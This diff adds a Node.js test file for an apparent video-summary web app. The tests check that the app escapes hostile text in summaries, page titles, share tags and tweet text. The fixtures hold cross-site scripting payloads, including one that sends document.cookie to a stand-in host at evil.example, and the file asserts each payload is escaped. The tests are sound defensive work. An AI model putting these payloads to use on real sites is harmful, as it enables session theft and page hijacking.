@@ -0,0 +1,86 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const { parseSummary, renderSummaryHTML } = require('../lib/summary');
+const { renderSummaryPage } = require('../lib/page');
+const { resolveTemplate, buildVideoPrompt } = require('../lib/prompts');
+
+const HOSTILE_TITLE = '</title><script>alert("title")</script><img src=x onerror=alert(1)> "quoted" & \'single\'';
+
+// Markup that must never come out of a page unescaped
+function assertNoInjectedMarkup(html) {
+  assert.doesNotMatch(html, /<script/i);
+  assert.doesNotMatch(html, /<img[^>]*onerror/i);
+  // Event handlers as attributes, not as escaped text inside an attribute value
+  assert.doesNotMatch(html.replace(/"[^"]*"/g, '""'), /<[^>]+\son\w+=/i);
+  assert.doesNotMatch(html, /href="\s*javascript:/i);
+}
+
+function summaryOf(fields) {
+  return parseSummary(JSON.stringify({ title: '', tldr: '', takeaways: [], sections: [], conclusion: '', topics: [], ...fields }));
+}
+
+test('renderSummaryHTML escapes model text in every part of the summary', () => {
+  const html = renderSummaryHTML(summaryOf({
+    tldr: HOSTILE_TITLE,
+    takeaways: [{ text: '<a href="javascript:alert(1)">click</a>', timestamp: '0:05' }],
+    sections: [{ heading: '<h1 onclick="alert(1)">Heading</h1>', items: ['<iframe src="https://evil.example"></iframe>'] }],
+    conclusion: '**<b onmouseover="alert(1)">bold</b>**',
+    topics: ['<style>body{display:none}</style>']
+  }), { videoId: 'dQw4w9WgXcQ' });
+
+  assertNoInjectedMarkup(html);
+  assert.match(html, /&lt;script&gt;alert\(&quot;title&quot;\)&lt;\/script&gt;/);
+  assert.match(html, /<strong>&lt;b onmouseover=&quot;alert\(1\)&quot;&gt;bold&lt;\/b&gt;<\/strong>/);
+  assert.match(html, /href="https:\/\/www\.youtube\.com\/watch\?v=dQw4w9WgXcQ&amp;t=5s"/);
+});
+
+test('renderSummaryPage escapes a hostile title in the <title>, heading and share tags', () => {
+  const page = renderSummaryPage({
+    title: HOSTILE_TITLE,
+    summaryHtml: '<p>Summary</p>',
+    url: 'javascript:alert(1)',
+    metadata: { author: '<script>alert("author")</script>', thumbnail: 'javascript:alert(1)' },
+    share: {
+      url: 'https://vidreduce.example/s/video-1a2b3c4d',
+      description: '"><script>alert("description")</script>',
+      image: 'https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg'
+    }
+  });
+
+  assertNoInjectedMarkup(page);
+  assert.match(page, /<title>YouTube Video Summary - &lt;\/title&gt;&lt;script&gt;/);
+  assert.match(page, /<meta property="og:title" content="&lt;\/title&gt;&lt;script&gt;alert\(&quot;title&quot;\)/);
+  assert.match(page, /<meta property="og:description" content="&quot;&gt;&lt;script&gt;/);
+  assert.match(page, /class="video-link"/);
+  assert.doesNotMatch(page, /src="javascript:/);
+});
+
+test('a hostile tweet text stays text from the prompt to the rendered page', () => {
+  const tweet = 'Watch this! </script><script>fetch("https://evil.example/?c="+document.cookie)</script> <img src=x onerror=alert(1)>';
+  const title = 'Twitter Video by @<b onmouseover=alert(1)>attacker</b>';
+  const context = [`Post text: "${tweet}"`, 'Posted by: attacker'].join('\n');
+
+  const { prompt } = buildVideoPrompt(resolveTemplate(), title, context, { source: 'Twitter/X video' });
+  assert.ok(prompt.includes(tweet), 'the post text reaches the model as written');
+
+  // A model that repeats the post text everywhere it can
+  const modelOutput = JSON.stringify({
+    title: tweet,
+    tldr: `The post says: ${tweet}`,
+    takeaways: [{ text: tweet, timestamp: '' }],
+    sections: [{ heading: tweet, items: [tweet] }],
+    conclusion: tweet,
+    topics: [tweet]
+  });
+  const page = renderSummaryPage({
+    title,
+    summaryHtml: renderSummaryHTML(parseSummary(modelOutput)),
+    url: 'https://x.com/attacker/status/1234567890',
+    linkLabel: 'View on Twitter/X',
+    pageTitle: 'Twitter/X Video Summary'
+  });
+
+  assertNoInjectedMarkup(page);
+  assert.match(page, /&lt;\/script&gt;&lt;script&gt;fetch\(&quot;https:\/\/evil\.example\/\?c=&quot;\+document\.cookie\)/);
+  assert.match(page, /@&lt;b onmouseover=alert\(1\)&gt;attacker&lt;\/b&gt;/);
+});